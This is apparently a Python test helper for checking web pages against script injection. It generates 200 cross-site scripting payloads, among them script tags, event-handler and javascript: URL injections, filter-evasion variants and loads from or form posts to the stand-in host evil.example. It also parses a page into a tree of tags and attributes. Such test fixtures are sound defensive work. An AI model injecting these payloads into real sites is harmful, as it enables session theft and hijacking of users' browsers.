"""Two hundred texts that want to be more than texts, and the tree of elements that a page is made of."""

import re
from html.parser import HTMLParser
from itertools import product

_SCRIPTS = ("alert(1)", "window.caught=1", "import('//evil.example')", "fetch('/')", "document.title=1")
_OPENINGS = (
    "<script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</option></select><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<math><mtext></math><script>{}</script>",
    "<body onload={}>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">x</a>',
    '" onfocus="{}" autofocus="',
    "' onmouseover='{}' x='",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<style>@import '//evil.example/{}';</style>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='//evil.example/{}'>",
    "<form action=//evil.example/{}><input type=submit>",
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/{}></SCRIPT>",
    "<script/x>{}</script>",
    "<img/src='x'/onerror={}>",
    "\x00<script>{}</script>",
    "<\x00script>{}</script>",
    "\u2028<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "{{{{ {} }}}}",
    "{{% raw %}}<script>{}</script>",
    "${{{}}}`<script>",
)
PAYLOADS = [opening.format(script) for opening, script in product(_OPENINGS, _SCRIPTS)]
HARMLESS = "Yoga"

Node = tuple[str, tuple[str, ...]]
_KEPT = re.compile(r"<noscript[^>]*>(.*?)</noscript>", re.DOTALL)


class _Tree(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.nodes: list[Node] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.nodes.append((tag, tuple(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.nodes.append((f"/{tag}", ()))

    def handle_comment(self, data: str) -> None:  # noqa: ARG002  as the parser has it
        self.nodes.append(("comment", ()))

    def unknown_decl(self, data: str) -> None:  # noqa: ARG002  as the parser has it
        self.nodes.append(("declaration", ()))


def tree(page: str) -> list[Node]:
    """Every element in order with the names of its attributes; texts and values are left out.

    What stands in a `noscript` is the same for everybody: it is a node as it is, to the letter.
    """
    parser, kept = _Tree(), _KEPT.findall(page)
    parser.feed(_KEPT.sub("<noscript>", page))
    parser.close()
    return [*parser.nodes, ("noscript", tuple(kept))]


def addresses(page: str) -> set[str]:
    """How the addresses in a page begin: what comes before the first colon, or nothing."""
    found: set[str] = set()

    class Links(HTMLParser):
        def handle_starttag(self, _tag: str, attrs: list[tuple[str, str | None]]) -> None:
            values = [value or "" for name, value in attrs if name in {"href", "src", "action"}]
            found.update(value.partition(":")[0] if ":" in value.split("?")[0] else "" for value in values)

    Links().feed(page)
    return found
